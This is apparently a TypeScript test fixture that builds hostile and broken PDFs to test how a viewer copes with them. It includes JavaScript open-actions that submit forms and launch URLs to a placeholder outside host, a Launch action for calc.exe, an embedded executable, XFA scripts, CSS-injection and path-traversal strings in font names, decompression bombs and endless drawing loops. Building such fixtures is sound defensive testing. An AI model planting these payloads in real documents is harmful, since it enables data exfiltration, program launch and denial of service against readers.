import { deflateSync } from 'node:zlib';
import { elsewhere } from './elsewhere.ts';
import { pagesPdf, pdfOf } from './pdf-of.ts';

const packed = (content: Buffer | string, entries = '') => {
  const bytes = deflateSync(content);
  return `<< /Length ${bytes.length} /Filter /FlateDecode ${entries} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
};

const still = 'BT /F1 24 Tf 72 700 Td (still here) Tj ET';

/** One page: its own entries, what it draws, and further objects from number 6 on. */
function onePagePdf(entries: string, content: string, more: string[] = [], catalogue = ''): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /Contents 4 0 R ${entries} >>`,
    content,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>',
    ...more,
  ]);
}

const page612 = '/MediaBox [0 0 612 792]';
const font = '/Font << /F1 5 0 R >>';
const uri = `/A << /S /URI /URI (${elsewhere}/link) >>`;
const script = `/A << /S /JavaScript /JS (app.alert\\('TAKEN'\\)) >>`;

export const hostilePdfs: Record<string, () => Buffer> = {
  'scripts and launches on opening': () =>
    pagesPdf(
      2,
      `/OpenAction << /S /JavaScript /JS (app.alert\\('TAKEN'\\); this.submitForm\\('${elsewhere}'\\)) /Next << /S /Launch /F (calc.exe) /Next << /S /URI /URI (${elsewhere}/uri) >> >> >>
/AA << /WC << /S /JavaScript /JS (app.launchURL\\('${elsewhere}'\\)) >> >>
/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\){}) >>] >> >>`,
    ),
  'broken cross references': () => {
    const whole = pagesPdf(2).toString('latin1');
    return Buffer.from(whole.replace(/startxref\n\d+/, 'startxref\n99999999'), 'latin1');
  },
  'links, forms, media and attachments over the whole page': () =>
    onePagePdf(
      `${page612} /Resources << ${font} >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R] /AA << /O << /S /URI /URI (${elsewhere}/open) >> >>`,
      packed(still),
      [
        `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] ${uri} >>`,
        `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] ${script} >>`,
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (value) /Rect [0 0 612 792] /AA << /Fo << /S /JavaScript /JS (app.launchURL\\('${elsewhere}'\\)) >> >> >>`,
        `<< /Type /Annot /Subtype /Screen /Rect [0 0 612 792] /A << /S /GoToR /F (${elsewhere}/other.pdf) >> >>`,
        `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (${elsewhere}/file.exe) /FS /URL >> >>`,
      ],
      `/AcroForm << /Fields [8 0 R] /XFA [(template) 11 0 R] >>`,
    ),
  'a picture of 20,000 by 20,000 points': () =>
    onePagePdf(
      `${page612} /Resources << ${font} /XObject << /I 6 0 R >> >>`,
      packed(`q 612 0 0 792 0 0 cm /I Do Q ${still}`),
      [
        packed(
          Buffer.alloc((20_000 / 8) * 20_000),
          '/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceGray /BitsPerComponent 1',
        ),
      ],
    ),
  'a picture that is in a file elsewhere': () =>
    onePagePdf(
      `${page612} /Resources << ${font} /XObject << /I 6 0 R >> >>`,
      packed(`q 612 0 0 792 0 0 cm /I Do Q ${still}`),
      [
        `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${elsewhere}/picture) >> /Length 0 >>\nstream\n\nendstream`,
      ],
    ),
  'a page as large as a field': () =>
    onePagePdf(
      `/MediaBox [0 0 200000 200000] /UserUnit 1000 /Resources << ${font} >>`,
      packed(`BT /F1 24000 Tf 72 70000 Td (still here) Tj ET`),
    ),
  'a drawing that contains itself': () =>
    onePagePdf(`${page612} /Resources << ${font} /XObject << /X 6 0 R >> >>`, packed(`${still} /X Do`), [
      packed(
        'q /X Do /X Do Q',
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>`,
      ),
    ]),
  'a portfolio with a form, files and actions': () =>
    onePagePdf(
      `${page612} /Resources << ${font} >>`,
      packed(still),
      [
        '<< /Type /Filespec /F (program.exe) /EF << /F 7 0 R >> >>',
        packed('MZ', '/Type /EmbeddedFile'),
        packed(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert("TAKEN")</script></event></subform></template></xdp:xdp>',
        ),
        `<< /S /ImportData /F (${elsewhere}/data.fdf) /Next << /S /GoToE /F (${elsewhere}/other.pdf) /Next << /S /SubmitForm /F << /FS /URL /F (${elsewhere}/form) >> >> >> >>`,
      ],
      `/Collection << /View /D /D (program.exe) >> /Names << /EmbeddedFiles << /Names [(program.exe) 6 0 R] >> >> /AcroForm << /XFA 8 0 R /Fields [] /NeedAppearances true >> /NeedsRendering true /OpenAction 9 0 R /URI << /Base (${elsewhere}/) >>`,
    ),
  'fonts whose names are styles and addresses': () =>
    onePagePdf(
      `${page612} /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >>`,
      packed(`${still} BT /F2 24 Tf 72 600 Td <0001> Tj ET`),
      [
        `<< /Type /Font /Subtype /Type0 /BaseFont /x#22#3bbackground:url#28${elsewhere}/font#29 /Encoding /../../../api/users/me /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /a /CIDSystemInfo << /Registry (../..) /Ordering (/../x) /Supplement 0 >> /FontDescriptor << /FontFamily (x; background: url\\(${elsewhere}\\)) /FontMatrix [1 0 0 1 0 (0\\); alert\\('TAKEN'\\)//)] /FontFile2 7 0 R >> >>] /ToUnicode 8 0 R >>`,
        packed('broken'),
        packed(
          '1 begincidrange <0000> <ffffffff> 0 endcidrange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange',
        ),
      ],
    ),
  'pictures of kinds that often break': () =>
    onePagePdf(
      `${page612} /Resources << ${font} /XObject << /A 6 0 R /B 7 0 R /C 8 0 R /D 9 0 R >> >>`,
      packed(`q 99 0 0 99 0 0 cm /A Do /B Do /C Do /D Do Q ${still}`),
      ['JPXDecode', 'JBIG2Decode', 'CCITTFaxDecode', 'DCTDecode'].map(
        (filter) =>
          `<< /Type /XObject /Subtype /Image /Width 9000 /Height 4000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /${filter} /DecodeParms << /K -1 /Columns 999999999 /Rows 999999999 >> /Length 30 >>\nstream\n${'jP  '.repeat(7)}jP\nendstream`,
      ),
    ),
  'pages and destinations that lead in circles': () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R /Names << /Dests 9 0 R >> >>',
      '<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>',
      `<< /Type /Page /Parent 2 0 R /Contents 4 0 R ${page612} /Resources << ${font} >> >>`,
      packed(still),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>',
      '<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>',
      '<< /First 8 0 R /Last 8 0 R /Count 9999999 >>',
      `<< /Title (a) /Dest (nowhere) /Next 8 0 R /First 7 0 R /Parent 7 0 R /A << /S /URI /URI (javascript:alert\\('TAKEN'\\)) >> >>`,
      '<< /Kids [9 0 R 9 0 R] /Limits [(a) (z)] >>',
    ]),
  'a number of pages that is not so': () =>
    Buffer.from(pagesPdf(2).toString('latin1').replace('/Count 2', '/Count 2000000000'), 'latin1'),
};

/** A page that no browser can draw in a reasonable time. */
export const unreadablePdfs: Record<string, () => Buffer> = {
  'a page that draws without end': () =>
    onePagePdf(
      `${page612} /Resources << ${font} >>`,
      packed(Buffer.from('0 0 m 600 700 l 1 w S\n'.repeat(6_000_000))),
    ),
};

/** Cannot be shown: they say so, and offer the download. */
export const brokenPdfs: Record<string, () => Buffer> = {
  'no pages': () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  'pages that contain themselves': () =>
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
};
